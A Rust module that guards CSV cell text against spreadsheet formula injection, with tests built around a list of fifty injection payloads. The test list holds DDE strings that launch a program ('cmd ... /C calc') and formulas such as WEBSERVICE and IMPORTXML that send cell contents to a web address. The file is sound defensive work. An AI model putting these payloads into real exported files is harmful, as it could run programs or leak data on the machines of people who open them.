//! Makes text harmless for spreadsheets.
//!
//! A spreadsheet that opens a CSV file runs what looks like a formula, and a formula can send the
//! table away or start a program. So text that begins with one of the letters that begin a formula
//! gets an apostrophe before it, which spreadsheets show as text. Blanks that spreadsheets or other
//! readers drop do not hide such a letter, nor does a line break.

use std::borrow::Cow;

/// Returns the text with an apostrophe before every line that a spreadsheet could run as a formula.
///
/// Plain numbers stay numbers.
pub fn guarded(text: &str) -> Cow<'_, str> {
    if is_plain_number(text) || !text.split(is_line_break).any(is_dangerous) {
        // A break itself is dangerous at the very beginning of a cell.
        return if text.starts_with(['\t', '\r', '\n']) {
            Cow::Owned(format!("'{text}"))
        } else {
            Cow::Borrowed(text)
        };
    }
    let mut safe = String::with_capacity(text.len() + 2);
    if text.starts_with(['\r', '\n']) {
        safe.push('\'');
    }
    for line in text.split_inclusive(is_line_break) {
        if is_dangerous(line.trim_end_matches(is_line_break)) {
            safe.push('\'');
        }
        safe.push_str(line);
    }
    Cow::Owned(safe)
}

/// Line breaks as any reader of tables may see them.
const fn is_line_break(letter: char) -> bool {
    matches!(
        letter,
        '\n' | '\r' | '\u{b}' | '\u{c}' | '\u{85}' | '\u{2028}' | '\u{2029}'
    )
}

/// Letters that are not seen, and that some reader drops before it looks for a formula.
fn is_blank(letter: char) -> bool {
    letter.is_whitespace()
        || letter.is_control()
        || matches!(letter, '\u{ad}' | '\u{180e}' | '\u{200b}'..='\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2060}'..='\u{206f}' | '\u{feff}')
}

fn is_dangerous(line: &str) -> bool {
    // The wide letters are read as their narrow forms where Chinese or Japanese is set.
    let first = line.chars().find(|letter| !is_blank(*letter));
    line.starts_with('\t')
        || matches!(
            first,
            Some('=' | '+' | '-' | '@' | '\u{ff1d}' | '\u{ff0b}' | '\u{ff0d}' | '\u{ff20}')
        )
}

/// Returns whether the text is a whole or decimal number and nothing else.
fn is_plain_number(text: &str) -> bool {
    let digits = text.strip_prefix(['-', '+']).unwrap_or(text);
    let (whole, decimals) = digits.split_once('.').unwrap_or((digits, "0"));
    let all_digits =
        |part: &str| !part.is_empty() && part.bytes().all(|byte| byte.is_ascii_digit());
    all_digits(whole) && all_digits(decimals)
}

#[cfg(test)]
mod tests {
    use super::*;

    const PAYLOADS: [&str; 50] = [
        "=1+1",
        "=cmd|' /C calc'!A0",
        "=HYPERLINK(\"http://example.org\";\"x\")",
        "=WEBSERVICE(\"http://example.org\")",
        "=IMPORTXML(CONCAT(\"http://example.org/\",A1),\"//a\")",
        "=DDE(\"cmd\";\"/C calc\";\"x\")",
        "=\"a\"",
        "==1",
        "= 1",
        "=",
        "+1+1",
        "+cmd|' /C calc'!A0",
        "+A1",
        "+",
        "++1",
        "-1+1",
        "-cmd|' /C calc'!A0",
        "-A1",
        "-",
        "--1",
        "- 5",
        "@SUM(1+1)",
        "@A1",
        "@",
        "\t=1+1",
        "\tText",
        "\t",
        "\r=1+1",
        "\rText",
        "\n=1+1",
        "\r\n=1+1",
        " =1+1",
        "   -1+1",
        "\u{a0}=1+1",
        "\u{feff}=1+1",
        "\u{feff}\u{a0} @A1",
        "\u{200b}=1+1",
        "\u{2060}+1+1",
        "\u{202e}=1+1",
        "\u{2003}=1+1",
        "text\n=1+1",
        "text\r\n+1+1",
        "text\r-1+1",
        "text\n\n@A1",
        "text\n \u{a0}=1+1",
        "text\u{2028}=1+1",
        "text\u{b}=1+1",
        "\u{ff1d}1+1",
        "\u{ff0b}1+1",
        "\u{0}=1+1",
    ];

    /// Returns whether some line would start a formula, told in another way than the guard does.
    fn would_run(cell: &str) -> bool {
        let lines = cell.split([
            '\n', '\r', '\u{b}', '\u{c}', '\u{85}', '\u{2028}', '\u{2029}',
        ]);
        let mut lines = lines.map(|line| {
            line.trim_start_matches(|letter: char| {
                !letter.is_ascii_graphic()
                    && !letter.is_alphanumeric()
                    && !"＝＋－＠".contains(letter)
            })
        });
        lines.any(|line| line.starts_with(['=', '+', '-', '@', '＝', '＋', '－', '＠']))
            || cell.starts_with(['\t', '\r', '\n'])
    }

    #[test]
    fn fifty_payloads_do_not_begin_a_formula_in_any_line() {
        for payload in PAYLOADS {
            assert!(would_run(payload), "{payload:?} is no payload");
            let cell = guarded(payload);
            assert!(!would_run(&cell), "{payload:?} became {cell:?}");
            assert_eq!(
                cell.replace('\'', ""),
                payload.replace('\'', ""),
                "{payload:?}"
            );
        }
    }

    #[test]
    fn numbers_stay_numbers_and_ordinary_text_stays_as_it_is() {
        for text in [
            "-5",
            "+12.5",
            "0",
            "2014-03-05T21:00",
            "ordinary text",
            "a = b",
            "два\nслова",
            "",
            "'quoted'",
        ] {
            assert_eq!(guarded(text), text);
        }
    }
}
